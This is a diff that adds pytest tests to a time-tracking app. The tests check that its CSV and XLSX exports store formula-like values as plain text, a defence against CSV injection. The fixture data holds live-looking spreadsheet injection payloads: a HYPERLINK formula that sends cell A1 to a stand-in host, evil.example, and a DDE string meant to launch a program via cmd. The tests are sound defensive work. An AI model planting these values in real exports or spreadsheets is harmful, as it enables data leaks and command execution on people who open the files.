@@ -227,3 +227,73 @@ def test_the_schema_says_the_export_list_is_a_cursor_page(world):
     page = schema["components"]["schemas"][ok["schema"]["$ref"].rsplit("/", 1)[1]]
     assert set(page["properties"]) == {"next", "previous", "results"}
     assert set(world.api("owner").get(URL).json()) == {"next", "previous", "results"}
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(1,2)",
+    "\tTabbed",
+    "\rReturned",
+]
+
+
+@pytest.fixture
+def hostile_entries(world):
+    """A member whose name and descriptions are spreadsheet formulas (OWASP CSV injection)."""
+    member = world.users["member"]
+    member.name = "=cmd|' /C calc'!A0"
+    member.save(update_fields=["name"])
+    membership = member.memberships.get(company=world.a)
+    start = datetime(2026, 6, 1, 9, tzinfo=UTC)
+    for n, text in enumerate(HOSTILE):
+        tracking.entry_create(
+            membership=membership,
+            data={
+                "project_id": world.project_open.id,
+                "started_at": start + timedelta(days=n),
+                "ended_at": start + timedelta(days=n, hours=1),
+                "description": text,
+            },
+        )
+
+
+def test_a_csv_export_writes_formula_like_text_as_text(world, hostile_entries):
+    asked = ask(world)
+    build(asked["id"])
+    body = download(world.api("member"), asked["id"]).decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(body, newline="")))
+    # every hostile cell is prefixed with a single quote, so a spreadsheet shows it as text
+    assert [r["description"] for r in rows] == ["'" + text for text in HOSTILE]
+    assert {r["user_name"] for r in rows} == {"'=cmd|' /C calc'!A0"}
+    # numbers stay numbers, plain text stays as it was
+    assert {r["duration_seconds"] for r in rows} == {"3600"}
+    assert {r["project"] for r in rows} == {"Open"}
+
+
+def test_an_xlsx_export_stores_formula_like_text_as_text_not_formulas(world, hostile_entries):
+    asked = ask(world, format="xlsx")
+    build(asked["id"])
+    workbook = load_workbook(io.BytesIO(download(world.api("member"), asked["id"])))
+    sheet = workbook.active
+    header = [c.value for c in sheet[1]]
+    description = sheet.cell(row=1, column=header.index("description") + 1).column_letter
+    name = sheet.cell(row=1, column=header.index("user_name") + 1).column_letter
+    seconds = sheet.cell(row=1, column=header.index("duration_seconds") + 1).column_letter
+    cells = sheet[f"{description}2:{description}{len(HOSTILE) + 1}"]
+    # text cells, never "f" (XML reads a carriage return back as a line feed: still text)
+    assert [(c.value, c.data_type) for (c,) in cells] == [(text.replace("\r", "\n"), "s") for text in HOSTILE]
+    assert {(c.value, c.data_type) for (c,) in sheet[f"{name}2:{name}{len(HOSTILE) + 1}"]} == {
+        ("=cmd|' /C calc'!A0", "s")
+    }
+    assert {(c.value, c.data_type) for (c,) in sheet[f"{seconds}2:{seconds}{len(HOSTILE) + 1}"]} == {(3600, "n")}
+
+
+def test_an_xlsx_team_export_keeps_numbers_numeric_and_names_textual(world, hostile_entries):
+    asked = ask(world, role="owner", report="team", format="xlsx")
+    build(asked["id"])
+    sheet = load_workbook(io.BytesIO(download(world.api("owner"), asked["id"]))).active
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "=cmd|' /C calc'!A0")
+    assert row[1].data_type == "s"
+    assert (row[2].value, row[2].data_type) == (len(HOSTILE) * 3600, "n")
